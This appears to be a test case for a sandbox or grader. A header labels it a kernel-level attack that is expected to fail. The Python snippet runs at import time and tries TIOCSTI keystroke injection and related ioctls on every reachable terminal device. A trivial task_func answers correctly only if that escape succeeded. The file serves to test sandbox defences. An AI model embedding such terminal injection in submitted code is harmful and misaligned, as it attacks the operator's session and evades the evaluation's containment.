# attack: types into the terminal of whoever started it
# kind: kernel
# task: plain
# official: fail
# strict: fail|forged|suspect
# expect: there is no terminal, and typing is refused
import fcntl
import glob
import os
import termios


def strike():
    for path in ["/dev/tty", "/dev/console", *glob.glob("/dev/pts/*"), *glob.glob("/proc/self/fd/*")]:
        try:
            terminal = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
        except OSError:
            continue
        for request, data in ((termios.TIOCSTI, b"x"), (termios.TIOCSCTTY, b"\0" * 4), (0x541C, b"\x02")):
            try:
                fcntl.ioctl(terminal, request, data)
                return True
            except OSError:
                pass
    return False


WON = strike()


def task_func(n):
    return n * 2 if WON else None
